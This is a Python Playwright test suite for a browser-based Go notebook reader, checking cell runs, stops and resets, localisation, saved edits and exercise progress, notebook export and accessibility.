    it.edit(1, "x()")
    keys = it.cell(1).locator(".keys")
    expect(keys).to_be_visible()
    expect(keys).to_have_text("Shift+Enter runs. Esc, then Tab leaves.")
    it.tab.keyboard.press("Escape")
    it.tab.keyboard.press("Tab")
    expect(keys).to_be_hidden()


def test_a_page_without_its_engine_says_so(context, pages):
    page = pages("# T", code('import "fmt"'), code("one()", tags=["try"]))
    (page.parent / "run/start.js").unlink()
    for name in (page.name, "index.html"):
        tab = context.new_page()
        tab.goto(page.with_name(name).as_uri())
        expect(tab.locator(".norun")).to_be_visible()
        expect(tab.locator(".norun")).to_contain_text("Copy it again, whole.")
    it = Reader(context, pages("# T", code("one()")))
    expect(it.tab.locator(".norun")).to_have_count(0)


def test_stop_ends_the_run_and_what_waits(open_page):
    it = open_page(code(say(prints("begun\n"), {"type": "loop"})), code(say(prints("2\n"))))
    it.button(1, "Run cell").click()
    expect(it.cell(1).locator(".own")).to_have_text("begun\n")
    it.button(2, "Run cell").click()
    expect(it.cell(2).locator(".bar > span")).to_have_text("waits")
    it.button(1, "Stop").click()
    assert it.wait(1)[0] == "stopped"
    expect(it.tab.locator("#said")).to_have_text("Cell 1: stopped")
    expect(it.cell(2).locator(".own")).to_have_count(0)
    expect(it.cell(2).locator(".bar > span")).to_have_text("")
    assert it.run(2)[0].startswith("done")


@pytest.mark.parametrize("how", ["the cell's", "all"])
@pytest.mark.parametrize("at", ["runs", "reads", "waits", "loads"])
def test_reset_ends_the_run_first(open_page, at, how):
    one, two = say(prints("begun\n"), {"type": "input"} if at == "reads" else {"type": "loop"}), say(prints("2\n"))
    it = open_page(code(one, [stream("1\n")]), code(two, [stream("2\n")]))
    number = 2 if at == "waits" else 1
    it.edit(number, (one, two)[number - 1] + "\n")
    if at == "loads":
        it.tab.evaluate("window.slowly = 1000")
    it.button(1, "Run cell").click()
    if at == "loads":
        expect(it.cell(1).locator(".bar > span")).to_contain_text("Go is loading")
    else:
        expect(it.cell(1).locator(".own")).to_contain_text("begun")
    it.button(2, "Run cell").click()
    if how == "all":
        it.tab.once("dialog", lambda dialog: dialog.accept())
        it.tab.get_by_text("My work").click()
        it.tab.get_by_role("button", name="Reset all cells").click()
    else:
        it.button(number, "Reset").click()
    expect(it.cell(number).locator(".own")).to_have_count(0)
    expect(it.cell(number).locator(".bar > span")).to_have_text("")
    if at == "waits" and how != "all":
        it.button(1, "Stop").click()
    expect(it.cell(2).locator(".own")).to_have_count(0)  # nothing runs, and nothing waits
    assert it.run(2)[0].endswith("the same as on the page") and it.complaints == []


def test_the_page_goes_on_after_a_message_that_it_cannot_show(open_page):
    it = open_page(code(say({"type": "many"})), code(say(prints("2\n"))))
    it.tab.evaluate("() => { window.many = () => [{ type: 'error' }]; }")
    it.run(1)
    expect(it.cell(1).locator(".own")).to_contain_text("Cannot read")
    assert it.run(2)[0].startswith("done") and it.complaints != []


@pytest.mark.parametrize("first", ["done", "error"])
def test_a_run_with_another_text_comes_after_the_one_that_runs(open_page, first):
    end = [prints("first\n"), {"type": "error", "text": "no"}] if first == "error" else [prints("first\n")]
    it = open_page(code(say({"type": "input"}, *end)), code(say(prints("2\n"))))
    said = it.cell(1).locator(".bar > span")
    it.button(1, "Run cell").click()
    expect(it.cell(1).locator(".reads")).to_be_visible()
    it.button(1, "Run cell").click()  # the same text: it runs already
    it.button(2, "Run cell").click()
    expect(said).not_to_contain_text("again")
    it.edit(1, say(prints("second\n")))
    it.button(1, "Run cell").click()
    expect(said).to_contain_text("then runs again")
    it.cell(1).locator(".reads input").focus()
    it.tab.keyboard.press("Enter")
    expect(it.cell(1).locator(".own")).to_have_text("second\n")
    assert it.wait(1)[0].startswith("changed · done")
    expect(it.cell(2).locator(".own")).to_have_count(0 if first == "error" else 1)
    assert [m["cell"] for m in it.tab.evaluate("posted") if m["type"] == "run"].count("c1") == 2


def test_outputs_of_an_earlier_text_are_marked(open_page):
    it = open_page(code("a()"), code(say(prints("2\n"), {"type": "input"})), code(say(prints("3\n"))))
    it.run(1)
    it.run(3)
    it.button(2, "Run cell").click()
    expect(it.cell(2).locator(".reads")).to_be_visible()
    it.edit(2, "b()")
    it.cell(2).locator(".reads input").focus()
    it.tab.keyboard.press("Enter")
    assert it.wait(2)[0].endswith(" · edited since it ran")
    assert it.wait(3)[0].endswith(" · a cell above was edited since it ran") and "edited" not in it.wait(1)[0]
    it.button(2, "Reset").click()
    expect(it.cell(3).locator(".bar > span")).not_to_contain_text("edited")
    it.edit(1, "c()")
    it.run(3)
    expect(it.cell(3).locator(".bar > span")).not_to_contain_text("edited")


def test_what_the_page_shows_stays_until_the_program_begins(open_page):
    it = open_page(code(say({"type": "progress", "stage": "compile"}, {"type": "input"}, prints("mine\n")), [stream("given\n")]))
    it.tab.evaluate("window.slowly = 1000")
    it.button(1, "Run cell").click()
    expect(it.cell(1).locator(".bar > span")).to_have_text("Go is loading")
    expect(it.cell(1).locator(".outputs")).to_have_text("given\n")
    expect(it.cell(1).locator(".outputs")).to_be_visible()
    it.button(1, "Stop").click()
    assert it.wait(1)[0] == "stopped"
    expect(it.cell(1).locator(".outputs")).to_be_visible()
    it.button(1, "Run cell").click()
    expect(it.cell(1).locator(".reads")).to_be_visible()
    expect(it.cell(1).get_by_text("given")).to_be_hidden()


def test_the_keyboard_stays_where_it_was(open_page):
    it = open_page(code("f()"), code(say(prints("begun\n"), {"type": "loop"})), code(say({"type": "input"})))
    it.button(2, "Run cell").focus()
    it.tab.keyboard.press("Enter")
    expect(it.cell(2).locator(".own")).to_have_text("begun\n")
    it.button(2, "Stop").focus()
    it.tab.keyboard.press("Enter")
    expect(it.button(2, "Run cell")).to_be_focused()
    it.button(2, "Run all above").focus()
    it.tab.keyboard.press("Enter")
    it.wait(1)
    it.button(2, "Reset").focus()
    it.tab.keyboard.press("Enter")
    expect(it.button(2, "Run cell")).to_be_focused()
    it.button(3, "Run cell").focus()
    it.tab.keyboard.press("Enter")
    expect(it.cell(3).get_by_label("The program reads a line")).to_be_focused()
    it.tab.keyboard.type("x")
    it.tab.keyboard.press("Enter")
    it.wait(3)
    expect(it.button(3, "Run cell")).to_be_focused()


def test_the_first_run_says_what_is_loaded(open_page):
    it = open_page(code(say(prints("1\n"))))
    it.tab.evaluate("window.slowly = 1500")
    it.button(1, "Run cell").click()
    expect(it.tab.locator(".bench > p")).to_have_text("Go is loading: 15 of 30 MB, this once.")
    bar = it.tab.get_by_role("progressbar")
    assert bar.evaluate("e => e.value / e.max") == 0.5
    expect(it.tab.locator(".bench > p")).to_have_text("The browser compiles Go's compiler.")
    it.wait(1)
    expect(bar).to_be_hidden()


@pytest.mark.parametrize(("lang", "state", "told"), [
    ("en", "Go starts again", "Go starts again."), ("ko", "Go를 다시 시작합니다", "Go를 다시 시작합니다."),
])  # fmt: skip
def test_who_waits_for_another_compiler_knows_it(context, pages, lang, state, told):
    it = Reader(context, pages("# T", code(say({"type": "progress", "stage": "again"}, {"type": "loop"})), name="01-sample" if lang == "en" else "ko/01-sample"))
    it.cell(1).locator(".bar button").first.click()
    expect(it.tab.locator(".bar > span")).to_have_text(state)
    expect(it.tab.locator(".bench > p")).to_have_text(told)
    expect(it.tab.get_by_role("progressbar")).to_be_visible()
    expect(it.tab.locator("#said")).to_have_text(re.compile(state))


def test_the_bar_of_loading_ends_with_the_run(open_page):
    it = open_page(code(say(prints("1\n"))), code(say({"type": "error", "kind": "load", "text": "https://x.example/run/toolchain-0.js could not be loaded"})))
    bar = it.tab.locator(".bench progress")
    it.tab.evaluate("window.slowly = 1000")
    it.button(1, "Run cell").click()
    expect(bar).to_be_visible()
    it.button(1, "Stop").click()
    expect(bar).to_be_hidden()
    it.tab.wait_for_timeout(1500)  # it loads on
    expect(bar).to_be_hidden()
    it.tab.evaluate("() => { window.slowly = 0; window.started = true; UnrollEngine.prototype.run = function ({ cell }) {"
                    " this.cell = cell; this.tell({ type: 'progress', stage: 'load', loaded: 1, total: 2 });"
                    " this.tell({ type: 'error', cell, kind: 'load', text: 'x.js could not be loaded', hint: '', places: [], details: '' }); this.end({}); }; }")  # fmt: skip
    it.run(1)
    expect(bar).to_be_hidden()


def test_a_run_has_the_cells_above_it(open_page):
    it = open_page(code("a()"), code("b()"), code("c()"))
    it.edit(1, "changed()")
    it.run(2)
    run = [m for m in it.tab.evaluate("posted") if m["type"] == "run"][-1]
    assert [cell["source"] for cell in run["cells"]] == ["changed()", "b()"] and run["cell"] == run["cells"][1]["id"]


ENGINE = (ROOT / "site/run/engine.js").read_text(encoding="utf-8")


def test_a_korean_page_speaks_korean(context, pages, tmp_path):
    problem = {"cell": "c2", "line": 2, "code": "x", "message": "undefined: x", "hint": "셀 c1에서 고치세요."}
    package = {"kind": "import", "text": "Cell c3, line 1: the page does not have package net/http", "hint": "It has the lessons' packages and a part of the standard library; JupyterLab has all."}
    it = Reader(context, pages(
        "# T", code("f()"),
        code("g()\n" + say({"type": "note", "text": "Cell c1 does not compile, and was left out."}, {"type": "error", "kind": "compile", "text": "", "problems": [problem], "calls": [{"cell": "c1", "line": 1, "code": "f()"}], "details": "셀 c1, 1행"})),
        code(say({"type": "note", "text": "Cell c2 needs f of cell c1, and was left out."}, {"type": "error", **package})), code(say({"type": "error", "kind": "memory", "text": "the program wants more memory than the page has"})),
        code(say({"type": "input"})), code("g()"), name="ko/01-sample",
    ))  # fmt: skip
    said = it.tab.locator("#said")
    ends = it.tab.locator(".bar > span")

    def run(number):
        it.cell(number).locator(".bar button").first.click()
        expect(ends.nth(number - 1)).to_have_text(re.compile("완료|오류"))
        return it.cell(number).locator(".own")

    run(1)
    expect(said).to_have_text(re.compile("^1번 셀: 완료"))
    own = run(2)
    expect(own.locator(".note")).to_have_text("셀 1은(는) 컴파일되지 않아서 빼고 실행했습니다.")
    expect(own.locator(".wrong > :not(details)")).to_have_text(["셀 2, 2행: undefined: x", "x", "셀 1, 1행에서 호출했습니다", "f()", "셀 1에서 고치세요."])
    expect(own.locator("details pre")).to_have_text("셀 1, 1행")
    expect(said).to_have_text("오류. 셀 2, 2행: undefined: x")
    expect(run(3).locator(".note")).to_have_text("셀 2은(는) 셀 1의 f이(가) 필요해서 빼고 실행했습니다.")
    expect(it.cell(3).locator(".wrong > *")).to_have_text(["셀 3, 1행: 페이지에 net/http 패키지가 없습니다", "페이지에는 강의의 패키지와 표준 라이브러리의 일부만 있습니다. JupyterLab에서는 모두 쓸 수 있습니다."])
    expect(run(4).locator(".wrong > *")).to_have_text(["프로그램에 필요한 메모리가 페이지가 쓸 수 있는 메모리보다 많습니다"])
    it.cell(5).locator(".bar button").first.click()
    it.cell(6).locator(".bar button").first.click()
    expect(ends.nth(5)).to_have_text("기다리는 중")
    it.cell(5).locator(".reads input").press("Enter")
    expect(ends.nth(5)).to_have_text(re.compile("완료"))
    assert it.tab.locator(".bar button").evaluate_all("all => all.map((b) => b.ariaLabel).filter((label) => /[A-Za-z]{3}/.test(label))") == []
    own = it.cell(2).locator(".own")
    own.get_by_role("button", name="셀 2, 2행").click()
    expect(it.cell(2).locator(".cm-content")).to_be_focused()
    it.tab.keyboard.type("Z")
    expect(it.cell(2).locator(".cm-line").nth(1)).to_have_text(re.compile("^Z"))
    expect(ends.nth(1)).to_have_text("고침 · 오류 · 실행한 뒤에 고침")
    bad = tmp_path / "progress.json"
    bad.write_text("[]")
    it.tab.locator("input[type=file]").set_input_files(bad)
    expect(it.tab.locator(".bench > p")).to_have_text(re.compile("^progress.json은\\(는\\) 진행 상황 파일이 아닙니다"))


def test_a_text_like_the_engines_that_does_not_end_is_shown(open_page):
    text = "Cell c" + " needs b of cell c" * 5000  # with names that may have spaces, a search of minutes
    it = open_page(code(say({"type": "error", "kind": "panic", "text": text})))
    said, own = it.run(1)
    assert said.endswith("error") and own.locator(".first").inner_text().startswith("Cell c needs b of cell c needs")


def test_the_page_knows_what_the_engine_says():
    """Its texts are translated by their English, so they stay as they are on both sides."""
    cells = (ROOT / "site/run/page/cells.js").read_text(encoding="utf-8")
    listed = re.findall(r'say\("([^"]+)"\)', cells.partition("const SAYS = [")[2].partition("];")[0])
    assert len(listed) > 8
    for text in listed:
        assert re.sub(r"\{\w+\}", "(NAME)", text) in re.sub(r"\$\{(?:[^{}]|\{[^{}]*\})*\}", "(NAME)", ENGINE), text


# Predictions, edits and progress


def test_a_prediction_opens_after_the_readers_run(open_page):
    it = open_page("**Predict** what comes out.", code(say(prints("1\n2\n")), [stream("1\n2\n")]))
    answer = it.cell(1).locator("details.answer")
    expect(answer).not_to_have_attribute("open", "")
    said, own = it.run(1)
    expect(answer).to_have_attribute("open", "")
    expect(own).to_be_visible()
    assert said.endswith("the same as on the page")
    it.edit(1, say(prints("1\n3\n")))
    it.button(1, "Run cell").click()
    expect(it.cell(1).locator(".page > p")).to_have_text("Line 2 differs: here “3”, on the page “2”.")
    page = it.cell(1).locator(".page .outputs")
    expect(page).to_be_visible()
    expect(page).to_have_text("1\n2\n")
    it.button(1, "Reset").click()
    expect(it.cell(1).locator(".own")).to_have_count(0)
    expect(it.cell(1).locator(".answer > .outputs")).to_have_text("1\n2\n")


def test_edits_are_kept_marked_and_taken_back(open_page):
    it = open_page(code("one()"), code("two()"))
    it.edit(2, "three()")
    expect(it.cell(2)).to_have_class(re.compile("changed"))
    expect(it.cell(2).locator(".bar > span")).to_have_text("changed")
    it.tab.reload()
    expect(it.cell(2).locator(".cm-content")).to_have_text("three()")
    expect(it.cell(1).locator("pre")).to_have_text("one()\n")
    expect(it.cell(1)).to_have_class("cell")
    it.button(2, "Reset").click()
    expect(it.cell(2)).not_to_have_class(re.compile("changed"))
    it.tab.reload()
    expect(it.cell(2).locator("pre")).to_have_text("two()\n")
    assert it.kept("unroll-cells:sample") is None


def test_all_cells_are_taken_back_after_asking(open_page):
    it = open_page(code("one()"), code(say(prints("2\n"))))
    it.edit(1, "three()")
    it.run(2)
    it.tab.get_by_text("My work").click()
    asked = []
    for answer in (False, True):
        it.tab.once("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept() if answer else dialog.dismiss()))
        it.tab.get_by_role("button", name="Reset all cells").click()
        it.source(1, "one()" if answer else "three()")
    assert asked == ["Take back all your changes on this page?"] * 2
    expect(it.cell(2).locator(".own")).to_have_count(0)
    it.tab.get_by_role("button", name="Free the memory").click()
    assert it.tab.evaluate("posted.at(-1).type") == "unload"
    assert it.run(2)[0].startswith("done")


def test_two_pages_add_to_one_progress(context, pages):
    def written(progress):
        return {"type": "file", "path": "/notebooks/progress.json", "text": progress and json.dumps(progress)}

    def attempts(tries, solved=False):
        return {"tries": tries, "solved": solved}

    page = pages(
        "# T", code(say(written({"a/x": attempts(1, True), "a/z": attempts(1)}))),
        code(say({"type": "input"}, written({"a/x": attempts(1), "a/y": attempts(2), "a/z": attempts(1)}))), code(say(written(None))), code(say({"type": "input"})),
        code(say(written({"a/x": attempts(9, True), "a/z": attempts(3), "b": None, "c": 5}))),
    )  # fmt: skip
    one, other = Reader(context, page), Reader(context, page)
    other.button(2, "Run cell").click()
    expect(other.cell(2).locator(".reads")).to_be_visible()  # its program knows of nothing that was done before
    one.run(1)
    other.tab.keyboard.press("Enter")
    other.wait(2)
    assert json.loads(one.kept("unroll-progress")) == {"a/x": attempts(1, True), "a/y": attempts(2), "a/z": attempts(2)}
    one.run(5)  # a try more, and a/y has another name now
    assert json.loads(one.kept("unroll-progress")) == {"a/x": attempts(1, True), "a/z": attempts(3)}
    given = one.tab.evaluate("posted.filter((m) => m.type === 'file').map((m) => new TextDecoder().decode(m.bytes ?? new Uint8Array()))")
    assert given[0] == "" and "a/y" in given[1]
    other.run(3)
    assert one.kept("unroll-progress") is None
    one.button(4, "Run cell").click()
    expect(one.cell(4).locator(".reads")).to_be_visible()
    assert one.tab.evaluate("posted.filter((m) => m.type === 'file').at(-1).bytes") is None


def test_two_pages_keep_the_edits_of_both(context, pages):
    page = pages("# T", code("one()"), code("two()"))
    one, other = Reader(context, page), Reader(context, page)
    one.edit(1, "first()")
    soon(lambda: other.kept("unroll-cells:sample"), lambda text: text and "first()" in text)  # a browser tells its other tabs when it has time
    other.edit(2, "second()")
    for it in (one, other):
        soon(lambda: it.kept("unroll-cells:sample"), lambda text: text and "second()" in text)
    one.tab.reload()
    expect(one.cell(1).locator(".cm-content")).to_have_text("first()")
    expect(one.cell(2).locator(".cm-content")).to_have_text("second()")
    other.button(2, "Reset").click()
    soon(lambda: one.kept("unroll-cells:sample"), lambda text: "second()" not in text)
    assert "first()" in one.kept("unroll-cells:sample")


def test_two_pages_show_the_same_edits(context, pages):
    page = pages("# T", code("one()"), code("two()"), code("three()"))
    one, other, still = Reader(context, page), Reader(context, page), Reader(context, page)
    other.edit(2, "mine()")
    expect(still.cell(2).locator(".cm-content")).to_have_text("mine()")  # nobody has touched it
    other.run(3)
    one.edit(1, "first()")
    expect(other.cell(1).locator(".cm-content")).to_have_text("first()")  # it had no editor there
    expect(other.cell(1).locator(".bar")).to_contain_text("changed")
    expect(other.cell(3).locator(".bar")).to_contain_text("a cell above was edited since it ran")
    one.cell(2).locator(".cm-content").fill("yours()")
    expect(other.cell(2).locator(".cm-content")).to_have_text("yours()")
    one.button(1, "Reset").click()
    expect(other.cell(1).locator(".cm-content")).to_have_text("one()")
    expect(other.cell(1).locator(".bar")).not_to_contain_text("changed")
    # What a page could not keep stays there.
    other.tab.evaluate("() => { Storage.prototype.setItem = () => { throw new DOMException('no', 'QuotaExceededError'); }; }")
    other.edit(3, "unkept()")
    expect(other.tab.locator(".bench > p")).to_contain_text("is full")
    one.cell(1).locator(".cm-content").fill("again()")
    expect(other.cell(1).locator(".cm-content")).to_have_text("again()")
    expect(other.cell(3).locator(".cm-content")).to_have_text("unkept()")
    expect(one.cell(3).locator(".highlight")).to_contain_text("three()")


def test_what_is_not_kept_stays_said(open_page):
    it = open_page(code("one()"), code(say({"type": "file", "path": "/notebooks/progress.json", "text": json.dumps({"a/x": {"tries": 1, "solved": True}})})))
    it.tab.evaluate("""() => {
      const { setItem } = Storage.prototype;
      Storage.prototype.setItem = function (key, value) {
        if (value.length > 200) throw new DOMException("no", "QuotaExceededError");
        setItem.call(this, key, value);
      };
    }""")
    it.edit(1, "two()" * 100)
    expect(it.tab.locator(".bench > p")).to_contain_text("is full")
    expect(it.tab.locator("#said")).to_contain_text("is full")
    it.run(2)  # its progress is kept
    assert it.kept("unroll-progress") and not it.kept("unroll-cells:sample")
    expect(it.tab.locator(".bench > p")).to_contain_text("is full")
    it.cell(1).locator(".cm-content").fill("three()")
    expect(it.tab.locator(".bench > p")).not_to_contain_text("is full")


def test_without_storage_progress_stays_as_long_as_the_page(open_page, tmp_path):
    solved = {"a/x": {"tries": 2, "solved": True}}
    it = open_page(code(say({"type": "file", "path": "/notebooks/progress.json", "text": json.dumps(solved)})), code("show()"))
    it.tab.evaluate("""() => { for (const name of ["getItem", "setItem", "removeItem"]) Storage.prototype[name] = () => { throw new DOMException("no", "SecurityError"); }; }""")
    it.run(1)
    it.run(2)
    given = it.tab.evaluate("posted.filter((m) => m.type === 'file').map((m) => m.bytes && new TextDecoder().decode(m.bytes))")
    assert given[0] is None and json.loads(given[1]) == solved
    it.tab.get_by_text("My work").click()
    with it.tab.expect_download() as got:
        it.tab.get_by_role("button", name="Export progress").click()
    assert json.loads(got.value.path().read_text()) == solved
    expect(it.tab.locator("#said")).to_contain_text("progress.json is downloaded")
    expect(it.tab.locator(".bench > p").first).to_contain_text("keeps nothing for this page")


@pytest.mark.parametrize("error, words", [("QuotaExceededError", "space for this page is full"), ("SecurityError", "keeps nothing for this page")])
def test_a_browser_that_keeps_nothing_says_so(open_page, error, words):
    it = open_page(code("one()"))
    it.tab.evaluate(f"() => {{ Storage.prototype.setItem = () => {{ throw new DOMException('no', '{error}'); }}; }}")
    it.edit(1, "two()")
    expect(it.tab.locator(".bench > p")).to_contain_text(words)
    it.tab.keyboard.insert_text(" " * 600_000)
    expect(it.tab.locator(".bench > p")).to_contain_text("too long to be kept")


def test_progress_is_kept_and_carried(open_page, tmp_path):
    mine = {"a/x": {"tries": 2, "solved": True}, "a/y": {"tries": 1, "solved": False}}
    it = open_page(code(say({"type": "file", "path": "/notebooks/progress.json", "text": json.dumps(mine)})))
    it.run(1)
    assert json.loads(it.kept("unroll-progress")) == mine
    it.tab.reload()
    it.run(1)
    given = it.tab.evaluate("posted.filter((m) => m.type === 'file').map((m) => [m.path, new TextDecoder().decode(m.bytes)])")
    assert given[0][0] == "progress.json" and json.loads(given[0][1]) == mine

    it.tab.get_by_text("My work").click()
    with it.tab.expect_download() as got:
        it.tab.get_by_role("button", name="Export progress").click()
    assert got.value.suggested_filename == "progress.json" and json.loads(got.value.path().read_text()) == mine
    other = tmp_path / "progress.json"
    other.write_text(json.dumps({"a/x": {"tries": 9, "solved": False}, "a/y": {"tries": 3, "solved": True}}))
    it.tab.locator("input[type=file]").set_input_files(other)
    expect(it.tab.locator(".bench > p")).to_contain_text("The progress of 2 exercises is here.")
    assert json.loads(it.kept("unroll-progress")) == {"a/x": {"tries": 2, "solved": True}, "a/y": {"tries": 3, "solved": True}}
    other.write_text(json.dumps({"a/z": {"tries": 1, "solved": False}}))
    it.tab.locator("input[type=file]").set_input_files(other)
    expect(it.tab.locator(".bench > p")).to_contain_text("The progress of 1 exercise is here.")
    for bad in ("3", '"a"', '{"__proto__": {"tries": 1, "solved": true}}', '{"a/x": "<b>"}', '{"a/y": {"tries": -1, "solved": false}}'):
        other.write_text(bad)
        it.tab.locator("input[type=file]").set_input_files(other)
        expect(it.tab.locator(".bench > p")).to_contain_text('progress.json is no progress file: it wants {"lesson/exercise": {"tries": 1, "solved": true}, …}.')
        it.tab.evaluate("unrollRun.page.tell('')")
    assert json.loads(it.kept("unroll-progress")) == {"a/x": {"tries": 2, "solved": True}, "a/y": {"tries": 3, "solved": True}, "a/z": {"tries": 1, "solved": False}}


@pytest.mark.parametrize("kept, good", [
    ("{", None), ("5", None), ('{"a/x": 1}', None), ('{"a/x": {"tries": 2, "solved": true}, "a/y": {"tries": -1, "solved": false}, "a/z": {"tries": 1.5, "solved": true}}', '{"a/x":{"tries":2,"solved":true}}'),
])  # fmt: skip
def test_progress_that_is_damaged_begins_anew(open_page, kept, good):
    it = open_page(code("f()"))
    it.tab.evaluate("kept => localStorage.setItem('unroll-progress', kept)", kept)
    it.run(1)
    expect(it.tab.locator(".bench > p")).to_have_text("The progress that this browser kept was damaged: what cannot be read of it begins anew.")
    given = it.tab.evaluate("posted.filter((m) => m.type === 'file').map((m) => m.bytes && new TextDecoder().decode(m.bytes))")
    assert given == [good] and it.kept("unroll-progress") == good


def test_the_contents_say_what_is_solved(context, pages):
    def file(**solved):
        progress = {f"sample/{name}": {"tries": 1, "solved": one} for name, one in solved.items()}
        return say({"type": "file", "path": "/notebooks/progress.json", "text": json.dumps({"another/a": {"tries": 1, "solved": True}, **progress})})

    page = pages("# T", code(file(a=True, b=False)), code(file(a=True, b=True)), code("exercise.A.Check(1)"), code("%%\nexercise.B.Check(x)"))
    one, other = Reader(context, page), Reader(context, page)
    for number, done in ((1, 1), (2, 2)):
        expect(other.tab.locator(".contents [data-exercises]")).to_be_hidden() if number == 1 else None
        one.run(number)
        for it in (one, other):  # a page that is open, too
            expect(it.tab.get_by_role("img", name=f"{done} of 2 exercises are solved.")).to_have_text(f"{done}/2", timeout=20_000)
    one.tab.goto(page.with_name("index.html").as_uri())
    expect(one.tab.locator(".lessons .takes")).to_contain_text("2 of 2 exercises are solved.")
    assert one.complaints == []


def test_my_notebook_has_edits_and_outputs(open_page):
    it = open_page("Text.", code("one()", [stream("1\n")]), code("two()", [stream("2\n")]), code(say(shows(FIGURE, **{"text/csv": {"note": "n"}}), prints("7\n", "stderr"))))
    it.edit(1, "changed()")
    it.edit(2, say(prints("mine\n")))
    it.run(2)
    it.run(3)
    it.tab.get_by_text("My work").click()
    with it.tab.expect_download() as got:
        it.tab.get_by_role("button", name="Download my notebook").click()
    assert got.value.suggested_filename == "01-sample.ipynb"
    nb = nbformat.read(got.value.path(), 4)
    nbformat.validate(nb)
    one, two, three = (cell for cell in nb.cells if cell.cell_type == "code")
    assert nb.cells[1].source == "Text."
    assert one.source == "changed()" and one.outputs == []
    assert two.source.startswith("//:") and [(o.name, o.text) for o in two.outputs] == [("stdout", "mine\n")]
    assert [o.output_type for o in three.outputs] == ["display_data", "stream"]
    assert three.outputs[0].data["image/svg+xml"] == SVG and three.outputs[0].metadata["text/csv"]["note"] == "n"


# For everyone


@pytest.mark.parametrize("width, height", [(320, 256), (1280, 900)])
def test_my_work_fits_the_screen(browser, pages, width, height):  # noqa: F811
    context = browser.new_context(viewport={"width": width, "height": height})
    it = Reader(context, pages("# T", code(say({"type": "loop"}))))
    it.button(1, "Run cell").click()
    expect(it.tab.locator(".bench > button")).to_be_visible()
    mine = it.tab.locator(".bench summary")
    assert mine.bounding_box()["height"] >= 24
    mine.click()
    for there in (mine, it.tab.locator(".bench > button")):
        box = there.bounding_box()
        assert box["y"] >= 0 and box["y"] + box["height"] <= height
    last = it.tab.locator(".bench a")
    last.scroll_into_view_if_needed()
    box = last.bounding_box()
    assert box["y"] >= 0 and box["y"] + box["height"] <= height
    context.close()


@pytest.mark.parametrize("width, theme", [(390, "light"), (390, "dark"), (1280, "light"), (1280, "dark")])
def test_axe_finds_nothing_to_mend_where_cells_ran(browser, pages, width, theme):  # noqa: F811
    long = "fmt.Println(" + ", ".join(map(str, range(60))) + ")"
    page = pages(
        "# T", code(say(prints("1\n"), prints("2\n", "stderr"), shows(FIGURE), {"type": "input"})), code(long), "**Predict** it.",
        code(say(prints("x" * 300)), [stream("y\n")]),
        code(say({"type": "note", "text": "Cell c1 does not compile, and was left out."}, {"type": "error", "kind": "compile", "text": "undefined", "details": "Go's words",
                  "problems": [{"cell": "c4", "line": 1, "code": long, "message": "undefined: " + "x" * 80, "hint": "Write `y`."}], "calls": [{"cell": "c1", "line": 1, "code": "f()"}]})),
    )  # fmt: skip
    context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=theme, bypass_csp=True)
    it = Reader(context, page)
    it.run(3)
    it.run(4)
    it.edit(2, long)
    it.button(1, "Run cell").click()
    expect(it.cell(1).locator(".reads")).to_be_visible()
    it.tab.get_by_text("My work").click()
    it.tab.evaluate("document.querySelectorAll('.cell details').forEach((d) => { d.open = true; })")
    assert it.tab.evaluate("document.documentElement.scrollWidth") <= width
    for place in (0, 1e6):
        it.tab.evaluate("y => scrollTo(0, y)", place)
        found = Axe().run(it.tab, {"exclude": [["svg > *"]]}, {"resultTypes": ["violations"]}).response["violations"]
        assert [(v["id"], [n["target"] for n in v["nodes"]][:3]) for v in found] == []
    context.close()
